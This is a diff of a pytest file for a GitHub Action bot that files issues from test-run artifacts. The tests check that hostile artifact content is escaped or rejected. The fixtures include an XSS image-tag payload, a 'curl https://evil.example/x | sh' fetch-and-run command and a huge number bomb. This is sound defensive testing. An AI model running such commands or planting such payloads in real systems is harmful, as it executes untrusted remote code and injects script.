@@ -19,10 +19,9 @@ from pathlib import Path
 import pytest
 import yaml
 
-from tests.ghstub.fixtures import BOT_LOGIN, REPO, ghstub, make_client  # noqa: F401
+from tests.ghstub.action import ROOT, assert_token_not_leaked, bot_comments, filed_issues, pr_comment, reactions
+from tests.ghstub.fixtures import BOT_LOGIN, REPO, make_client
 from tests.ghstub.rundir import check_row, failing_run, failure_record, passing_run, write_run
-from tests.test_action_e2e import (  # noqa: F401
-    ROOT, assert_token_not_leaked, bot_comments, filed_issues, pr_comment, reactions, runner, users)
 
 
 def shard_dir(tmp: Path, name: str = "download") -> Path:
@@ -159,7 +158,7 @@ def test_untrusted_jobs_run_on_their_own_runners_and_privileged_installs_are_has
 # ------------------------------------------------------------------ 4. hostile artifacts
 
 
-def test_untyped_artifact_fields_are_rejected_before_anything_is_filed(runner, ghstub, tmp_path):  # noqa: F811
+def test_untyped_artifact_fields_are_rejected_before_anything_is_filed(runner, ghstub, tmp_path):
     c = check_row()
     rec = failure_record(c)
     rec["accuracy"]["rmse_res"] = '<img src=x onerror="alert(1)"> @acme/team #1 <!--'
@@ -171,7 +170,7 @@ def test_untyped_artifact_fields_are_rejected_before_anything_is_filed(runner, g
     assert_token_not_leaked(res)
 
 
-def test_artifact_strings_are_escaped_and_never_offered_as_a_command(runner, ghstub, tmp_path):  # noqa: F811
+def test_artifact_strings_are_escaped_and_never_offered_as_a_command(runner, ghstub, tmp_path):
     c = check_row(failure_class="runtime_error", status="fail_to_run",
                   error={"type": "Evil @acme/team #1", "message": "boom <img src=x> #1", "traceback": "tb"})
     c["spec"] = {"source": "command", "command": "curl https://evil.example/x | sh"}
@@ -201,7 +200,7 @@ def test_an_error_type_cannot_end_its_code_span():
 
 
 @pytest.mark.slow
-def test_update_comments_escape_what_the_artifact_says(runner, ghstub, tmp_path):  # noqa: F811
+def test_update_comments_escape_what_the_artifact_says(runner, ghstub, tmp_path):
     failing_run(shard_dir(tmp_path, "d1") / "minify-shard-1")
     assert runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "d1")}).rc == 1
     (issue,) = filed_issues(ghstub)
@@ -262,7 +261,7 @@ def test_wrong_payload_types_exit_2_and_are_answered_in_the_pull_request(runner,
     assert "did not finish" in bot_comments(users, payload["issue"]["number"])[-1]["body"]
 
 
-def test_number_bomb_in_a_shard_exits_2(runner, ghstub, tmp_path):  # noqa: F811
+def test_number_bomb_in_a_shard_exits_2(runner, ghstub, tmp_path):
     d = failing_run(shard_dir(tmp_path) / "minify-shard-1")
     text = (d / "results.json").read_text().replace('"batch_size": 4', '"batch_size": ' + "9" * 5000)
     (d / "results.json").write_text(text)
@@ -293,7 +292,7 @@ def test_an_unexpected_error_exits_3_with_outputs_summary_and_an_answer(runner, 
 # ------------------------------------------------------------------ 7. misleading output
 
 
-def test_a_filing_failure_names_its_cause(runner, ghstub, tmp_path):  # noqa: F811
+def test_a_filing_failure_names_its_cause(runner, ghstub, tmp_path):
     failing_run(shard_dir(tmp_path) / "minify-shard-1")
     ghstub.add_user("reader", token="reader-token-1234", permission="read")
     res = runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "download")}, token="reader-token-1234")
@@ -323,7 +322,7 @@ def test_a_newline_in_a_single_line_input_is_rejected(runner):
     assert "minify-bot check" not in res.stdout
 
 
-def test_the_bot_label_is_created_or_updated(runner, ghstub, tmp_path):  # noqa: F811
+def test_the_bot_label_is_created_or_updated(runner, ghstub, tmp_path):
     make_client(ghstub).get_repo(REPO).create_label("minify-bot", "ededed", "someone else's")
     failing_run(shard_dir(tmp_path) / "minify-shard-1")
     res = runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "download")})
